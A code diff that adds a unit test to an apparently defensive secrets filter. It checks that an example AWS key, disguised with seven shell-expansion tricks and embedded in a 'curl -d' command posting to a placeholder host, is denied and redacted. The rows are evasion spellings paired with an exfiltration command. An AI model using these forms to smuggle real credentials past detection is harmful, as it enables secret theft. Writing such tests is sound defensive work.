@@ -259,3 +259,21 @@ Test(rev57_secrets, code_with_many_here_document_operators_is_allowed)
 
     run_rows(AWS_PATTERN, "code", "", "", rows, NROWS(rows), 0, AWS_TAIL);
 }
+
+/* Review 15 F2: braces with another shell reading over the expansion, and
+ * braces a shell that reads the text again expands (a substitution, a
+ * script handed to bash -c). */
+Test(rev57_secrets, a_key_spelled_with_braces_and_another_shell_form_is_denied_and_redacted)
+{
+    static const char *const rows[] = {
+        "AKIA{I,}${x}OSFODNN7EXAMPLE",
+        "AKIA{I,}$(:)OSFODNN7EXAMPLE",
+        "AKIA{I,}$'\\117'SFODNN7EXAMPLE",
+        "AKIA{I,}${x:-O}SFODNN7EXAMPLE",
+        "$(echo AKIA{I,}OSFODNN7EXAMPLE)",
+        "`echo AKIA{I,}OSFODNN7EXAMPLE`",
+        "bash -c 'echo AKIA{I,}OSFODNN7EXAMPLE'",
+    };
+
+    run_rows(AWS_PATTERN, "cmd", "curl -d ", " https://x.example", rows, NROWS(rows), 1, AWS_TAIL);
+}
